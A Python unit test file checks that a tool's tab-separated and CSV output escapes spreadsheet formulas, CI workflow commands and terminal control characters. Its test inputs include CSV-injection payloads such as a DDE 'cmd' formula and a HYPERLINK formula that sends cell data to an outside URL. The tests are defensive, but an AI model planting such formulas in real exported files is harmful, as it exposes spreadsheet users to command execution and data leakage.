"""Tab-separated lines, csv and ids."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, strategies as st

from tests.unit.output.samples import DB, WEB, Machine, opened, shown


def test_lines_have_every_column_and_no_heading() -> None:
    assert shown([WEB, DB], format="lines") == (
        "i-1\tweb-1\trunning\t2026-02-26T12:00:00Z\t3221225472\t70.08\tfalse\tsg-1,sg-2"
        '\t{"env":"prod"}\n'
        'i-2\t\tstopped\t\t\t\ttrue\t\t{"env":"dev","team":"data"}\n'
    )


@given(st.text(st.characters(codec=None)), st.text(st.characters(codec=None)))
def test_a_row_is_one_line_with_its_tabs_in_place(name: str, state: str) -> None:
    row = replace(WEB, name=name, state=state)

    text = shown([row], format="lines", columns=("id", "name", "state"))

    assert text.splitlines(keepends=True) == [text]
    assert text.count("\t") == 2


def test_a_line_cannot_be_a_workflow_command() -> None:
    text = shown([replace(WEB, id="::add-mask::x")], format="lines", columns=("id",))

    assert text == "\\x3a:add-mask::x\n"


def test_ids_are_one_a_line_without_where_columns() -> None:
    writer, out, _ = opened(Machine, ("account", "region"), format="ids")
    writer.add([WEB, DB], {"account": "1", "region": "r"})
    writer.close()

    assert out.getvalue() == "i-1\ni-2\n"


def test_ids_can_be_another_column_and_leave_missing_ones_out() -> None:
    assert shown([WEB, DB], format="ids", columns=("name",)) == "web-1\n"


def test_csv_has_a_column_for_each_tag() -> None:
    assert shown([WEB, DB], format="csv", columns=("id", "groups", "tags.*")) == (
        'id,groups,tags.env,tags.team\ni-1,"sg-1,sg-2",prod,\ni-2,,dev,data\n'
    )


def test_csv_spreads_tags_without_being_asked() -> None:
    heading = shown([WEB, DB], format="csv").splitlines()[0]

    assert heading.endswith(",groups,tags.env,tags.team")


def test_csv_without_rows_has_its_headings() -> None:
    writer, out, _ = opened(Machine, format="csv", columns=("id", "name"))
    writer.close()

    assert out.getvalue() == "id,name\n"


def marked(text: str) -> str:
    """What a spreadsheet would take for a formula is marked as a text; all else stays."""
    begins = text.startswith(("=", "@", "\t", "\r", "+", "-"))
    number = text[:1] in "+-" and not text[1:].removesuffix("%").strip("0123456789.,")
    return f"'{text}" if begins and not number else text


TEXTS = st.text(st.characters(codec="utf-8"), max_size=8)


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4))
def test_any_text_comes_back_from_csv(names: list[tuple[str, str]]) -> None:
    rows = [replace(WEB, name=name, state=state) for name, state in names]

    text = shown(rows, format="csv", columns=("name", "state"))

    found = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [tuple(row) for row in found] == [(marked(name), marked(state)) for name, state in names]


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_a_column_alone_comes_back_from_csv(names: list[str]) -> None:
    text = shown([replace(WEB, name=name) for name in names], format="csv", columns=("name",))

    found = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert found == [marked(name) for name in names]


@pytest.mark.parametrize(
    "formula",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-a", "+", "="),
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1)',
    ],
)
def test_a_csv_cell_is_no_formula(formula: str) -> None:
    row = replace(WEB, name=formula, tags={formula: formula})

    text = shown([row], format="csv", columns=("name", "tags.*"))

    heading, cells = csv.reader(io.StringIO(text, newline=""))
    mark = "" if formula == "+" else "'"
    assert heading == ["name", f"tags.{formula}"]
    assert cells == [f"{mark}{formula}"] * 2


@pytest.mark.parametrize("number", ["-5", "+3.25", "-1,000.50", "-7.5%", "-", "0", "a=b", "a-b"])
def test_a_number_in_csv_stays_one(number: str) -> None:
    text = shown([replace(WEB, name=number)], format="csv", columns=("name",))

    assert next(csv.DictReader(io.StringIO(text)))["name"] == number


@pytest.mark.parametrize("first", ["::error::x", " ::error::x"])
def test_a_csv_line_cannot_be_a_workflow_command(first: str) -> None:
    text = shown([replace(WEB, name=first)], format="csv", columns=("name",))

    assert text == f'name\n"{first}"\n'


def test_csv_on_a_terminal_has_no_control_characters() -> None:
    row = replace(WEB, name="a\x1b[2J")

    assert shown([row], format="csv", columns=("name",), width=80) == "name\na\\x1b[2J\n"
